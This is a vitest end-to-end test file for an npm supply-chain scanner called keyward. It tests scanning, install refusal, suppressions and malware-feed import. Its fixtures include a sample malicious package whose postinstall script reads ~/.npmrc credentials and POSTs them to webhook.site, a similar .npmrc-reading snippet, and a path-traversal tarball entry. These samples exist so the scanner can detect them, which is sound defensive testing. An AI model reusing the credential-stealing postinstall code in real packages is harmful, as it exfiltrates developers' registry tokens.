/**
 * End-to-end: the built `keyward npm` commands over fixture packages, tarballs and lockfiles on disk, against a
 * local registry (check and install, with the real npm resolving and installing), suppressions, the feed
 * update, recording, and bad input. No fixture package is ever run.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../src/store/index.js';
import { makeTarball } from '../../src/supplychain/sources/tarball-test-support.js';
import { removeDir, requireBuild, ROOT, runKeyward, tempDir } from './e2e-helpers.js';
import { startFakeRegistry, type FakeRegistry } from './npm-registry-support.js';

const MALICIOUS = join(ROOT, 'test', 'fixtures', 'npm-gate', 'malicious');

interface JsonPackage {
  name: string;
  version: string;
  level: string;
  score: number;
  findings: {
    ruleId: string;
    severity: string;
    file: string | null;
    line: number | null;
    category: string;
  }[];
}
interface JsonReport {
  summary: { packages: number; levels: Record<string, number> };
  packages: JsonPackage[];
  errors: { input: string; message: string }[];
}

const BENIGN = {
  manifest: { name: 'kw-benign-util', version: '1.0.0', main: 'index.js', license: 'MIT' },
  files: { 'index.js': "'use strict';\nmodule.exports = (a, b) => a + b;\n" },
};
const STEALER = {
  manifest: {
    name: 'kw-evil-helper',
    version: '2.0.0',
    main: 'index.js',
    license: 'MIT',
    scripts: { postinstall: 'node setup.js' },
  },
  files: {
    'index.js': 'module.exports = {};\n',
    'setup.js':
      "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n" +
      "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n" +
      "https.request({ host: 'webhook.site', path: '/00000000-0000-0000-0000-000000000000', method: 'POST' }).end(t);\n",
  },
};

let work: string;
let data: string;
let registry: FakeRegistry;

beforeAll(async () => {
  requireBuild();
  work = tempDir('kw-npm-');
  data = join(work, 'data');
  registry = await startFakeRegistry([BENIGN, STEALER]);
});
afterAll(async () => {
  await registry?.close();
  removeDir(work);
});

function project(name: string, extra: Record<string, unknown> = {}): string {
  const dir = join(work, name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'package.json'),
    JSON.stringify({ name, version: '1.0.0', private: true, ...extra }, null, 2),
  );
  writeFileSync(join(dir, '.npmrc'), `registry=${registry.url}\n`);
  return dir;
}

describe('keyward npm scan', () => {
  it('flags a malicious package directory at high with file:line evidence, exit 1', async () => {
    const r = await runKeyward(['npm', 'scan', join(MALICIOUS, 'shai-hulud-worm'), '--json']);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.packages).toHaveLength(1);
    const p = report.packages[0]!;
    expect(['high', 'critical']).toContain(p.level);
    expect(p.score).toBeGreaterThanOrEqual(7);
    const high = p.findings.filter((f) => f.severity === 'high');
    expect(high.length).toBeGreaterThan(0);
    expect(high.every((f) => f.file !== null)).toBe(true);
    expect(high.some((f) => f.line !== null && f.line > 0)).toBe(true);
  });

  it('prints a table with the evidence and a summary line', async () => {
    const r = await runKeyward(['npm', 'scan', join(MALICIOUS, 'shai-hulud-worm')]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^(HIGH|CRITICAL)\s+\d+\/10 {2}\S+@\S+/m);
    expect(r.stdout).toMatch(/1 package\(s\) analysed in [\d.]+ s: \d critical, \d high/);
  });

  it('passes the project’s own dependency tree with no high finding (--fail-on high) but the reviewed ones', async () => {
    // As CI's own gate runs it: the reviewed exceptions are pinned to version and file hash.
    const r = await runKeyward(
      ['npm', 'scan', 'node_modules', '--json', '--suppressions', '.keyward-npm-suppressions.json'],
      { timeoutMs: 120_000 },
    );
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.packages.filter((p) => p.level === 'high' || p.level === 'critical')).toEqual([]);
    expect(report.summary.packages).toBeGreaterThan(100);
    expect(r.code).toBe(0);
  }, 130_000);

  it('writes SARIF 2.1.0 with rules and package locations', async () => {
    const r = await runKeyward(['npm', 'scan', join(MALICIOUS, 'shai-hulud-worm'), '--format', 'sarif']);
    const sarif = JSON.parse(r.stdout) as {
      version: string;
      runs: {
        tool: { driver: { rules: { id: string }[] } };
        results: { ruleId: string; level: string; locations: unknown[] }[];
      }[];
    };
    expect(sarif.version).toBe('2.1.0');
    const run = sarif.runs[0]!;
    expect(run.results.length).toBeGreaterThan(0);
    expect(run.results.some((x) => x.level === 'error')).toBe(true);
    const ids = new Set(run.tool.driver.rules.map((x) => x.id));
    expect(run.results.every((x) => ids.has(x.ruleId))).toBe(true);
  });

  it('refuses a hostile tarball with a clear error and still reports the other inputs', async () => {
    const evil = join(work, 'evil.tgz');
    writeFileSync(
      evil,
      await makeTarball([
        { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' },
        { path: 'package/../../escape.js', content: 'boom' },
      ]),
    );
    const good = join(work, 'good.tgz');
    writeFileSync(
      good,
      await makeTarball([
        { path: 'package/package.json', content: JSON.stringify(BENIGN.manifest) },
        { path: 'package/index.js', content: BENIGN.files['index.js'] },
      ]),
    );
    const r = await runKeyward(['npm', 'scan', evil, good, '--json']);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.packages.map((p) => `${p.name}@${p.version}`)).toEqual(['kw-benign-util@1.0.0']);
    expect(report.errors).toHaveLength(1);
    expect(report.errors[0]!.input).toContain('evil.tgz');
    expect(report.errors[0]!.message).toMatch(/\.\./);
  });

  it('flags a known-malicious version in a lockfile as critical (offline feed)', async () => {
    const dir = join(work, 'locked');
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, 'package-lock.json'),
      JSON.stringify(
        {
          name: 'locked',
          version: '1.0.0',
          lockfileVersion: 3,
          requires: true,
          packages: {
            '': { name: 'locked', version: '1.0.0' },
            'node_modules/@0xengine/xmlrpc': {
              version: '1.3.18',
              resolved: 'https://registry.npmjs.org/@0xengine/xmlrpc/-/xmlrpc-1.3.18.tgz',
              integrity: 'sha512-AAAA',
            },
            'node_modules/left-pad': {
              version: '1.3.0',
              resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
              integrity: 'sha512-BBBB',
            },
          },
        },
        null,
        2,
      ),
    );
    const r = await runKeyward(['npm', 'scan', join(dir, 'package-lock.json'), '--json']);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as JsonReport;
    const bad = report.packages.find((p) => p.name === '@0xengine/xmlrpc')!;
    expect(bad.level).toBe('critical');
    expect(bad.score).toBe(10);
    expect(bad.findings[0]!.ruleId).toBe('npm.metadata.known-malicious');
    expect(report.packages.find((p) => p.name === 'left-pad')!.level).toBe('none');
  });

  it('names the file and line of a broken lockfile', async () => {
    const file = join(work, 'broken', 'package-lock.json');
    mkdirSync(join(work, 'broken'), { recursive: true });
    writeFileSync(file, '{\n  "lockfileVersion": 3,\n  "packages": {\n    oops\n}\n');
    const r = await runKeyward(['npm', 'scan', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/package-lock\.json.*:?4/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it('says which path does not exist', async () => {
    const r = await runKeyward(['npm', 'scan', join(work, 'nope')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('nope');
  });
});

describe('suppressions', () => {
  it('accepts findings pinned to the file content, and a changed file brings them back', async () => {
    const pkg = join(work, 'suppressed-pkg');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(join(pkg, 'package.json'), JSON.stringify({ name: 'kw-internal-tool', version: '0.1.0' }));
    writeFileSync(
      join(pkg, 'index.js'),
      "const https = require('https');\nconst fs = require('fs');\nconst rc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nhttps.get('https://webhook.site/00000000-0000-0000-0000-000000000000?q=' + rc.length);\n",
    );
    const file = join(work, 'suppressions.json');
    const first = await runKeyward(['npm', 'scan', pkg]);
    expect(first.code).toBe(1);
    const noReason = await runKeyward(['npm', 'scan', pkg, '--write-suppressions', file]);
    expect(noReason.code).toBe(2);
    expect(noReason.stderr).toContain('--reason');
    const write = await runKeyward([
      'npm',
      'scan',
      pkg,
      '--write-suppressions',
      file,
      '--reason',
      'our own telemetry test',
    ]);
    expect(write.code).toBe(0);
    const saved = JSON.parse(readFileSync(file, 'utf8')) as {
      suppressions: { contentHash: string | null; package: string }[];
    };
    expect(saved.suppressions.length).toBeGreaterThan(0);
    expect(saved.suppressions.every((s) => s.package === 'kw-internal-tool' && s.contentHash !== null)).toBe(
      true,
    );
    const again = await runKeyward(['npm', 'scan', pkg, '--suppressions', file]);
    expect(again.code).toBe(0);
    writeFileSync(join(pkg, 'index.js'), `${readFileSync(join(pkg, 'index.js'), 'utf8')}// changed\n`);
    const changed = await runKeyward(['npm', 'scan', pkg, '--suppressions', file]);
    expect(changed.code).toBe(1);
  });
});

describe('keyward npm check and install against a registry', () => {
  it('check: fetches and analyses without installing, honouring .npmrc', async () => {
    const dir = project('checker');
    const ok = await runKeyward(['npm', 'check', 'kw-benign-util@1.0.0', '--json'], { cwd: dir });
    expect(ok.stderr).toBe('');
    expect(ok.code).toBe(0);
    const okReport = JSON.parse(ok.stdout) as JsonReport;
    expect(okReport.packages.map((p) => [p.name, p.version, p.level])).toEqual([
      ['kw-benign-util', '1.0.0', 'none'],
    ]);
    const bad = await runKeyward(['npm', 'check', 'kw-evil-helper@^2', '--json'], { cwd: dir });
    expect(bad.code).toBe(1);
    const badReport = JSON.parse(bad.stdout) as JsonReport;
    expect(badReport.packages[0]!.version).toBe('2.0.0');
    expect(badReport.packages[0]!.level).toBe('high');
    expect(existsSync(join(dir, 'node_modules'))).toBe(false);
    const missing = await runKeyward(['npm', 'check', 'kw-no-such-package@1.0.0'], { cwd: dir });
    expect(missing.code).toBe(1);
    expect(missing.stdout + missing.stderr).toMatch(/kw-no-such-package.*not found/);
  });

  it('install: refuses a malicious package before anything is installed', async () => {
    const dir = project('refuser');
    const r = await runKeyward(['npm', 'install', 'kw-evil-helper@2.0.0'], { cwd: dir, timeoutMs: 120_000 });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('refusing to install: kw-evil-helper@2.0.0 (high');
    expect(existsSync(join(dir, 'node_modules'))).toBe(false);
    expect(JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')).dependencies).toBeUndefined();
  }, 130_000);

  it('install: installs a clean package after analysing it', async () => {
    const dir = project('installer');
    const r = await runKeyward(['npm', 'install', 'kw-benign-util@1.0.0'], { cwd: dir, timeoutMs: 120_000 });
    expect(r.stderr).toContain('analysis passed');
    expect(r.code).toBe(0);
    expect(existsSync(join(dir, 'node_modules', 'kw-benign-util', 'index.js'))).toBe(true);
  }, 130_000);
});

describe('the feed and recording', () => {
  it('imports OSV MAL- records and flags the versions they name', async () => {
    const osv = join(work, 'osv');
    mkdirSync(osv, { recursive: true });
    writeFileSync(
      join(osv, 'MAL-2099-1.json'),
      JSON.stringify({
        id: 'MAL-2099-1',
        modified: '2099-01-01T00:00:00Z',
        summary: 'Malicious code in kw-benign-util (npm)',
        affected: [{ package: { ecosystem: 'npm', name: 'kw-benign-util' }, versions: ['1.0.0'] }],
      }),
    );
    writeFileSync(join(osv, 'broken.json'), '{ not json');
    const up = await runKeyward(['--data-dir', data, 'npm', 'feed', 'update', osv]);
    expect(up.code).toBe(0);
    expect(up.stdout).toContain('imported 1 MAL- record(s)');
    expect(up.stderr).toContain('broken.json');
    const dir = project('feeder');
    const r = await runKeyward(['--data-dir', data, 'npm', 'check', 'kw-benign-util@1.0.0', '--json'], {
      cwd: dir,
    });
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.packages[0]!.level).toBe('critical');
    expect(report.packages[0]!.findings[0]!.ruleId).toBe('npm.metadata.known-malicious');
  });

  it('--record stores scanned packages in the inventory and flagged ones in the event log', async () => {
    const rec = join(work, 'record-data');
    const r = await runKeyward([
      '--data-dir',
      rec,
      'npm',
      'scan',
      join(MALICIOUS, 'shai-hulud-worm'),
      '--record',
    ]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/recorded 1 package\(s\) in the inventory \(1 new\) and 2 event\(s\)/);
    const store = await openStore({ dataDir: rec });
    try {
      const resources = await store.listResources({ provider: 'npm', type: 'npm:package' });
      expect(resources.items).toHaveLength(1);
      expect(resources.items[0]!.attributes.level).toMatch(/high|critical/);
      const events = await store.readEvents(0, 100);
      const types = events.map((e) => e.type);
      expect(types).toContain('npm.scan.completed');
      expect(types).toContain('npm.package.flagged');
    } finally {
      await store.close();
    }
  });
});
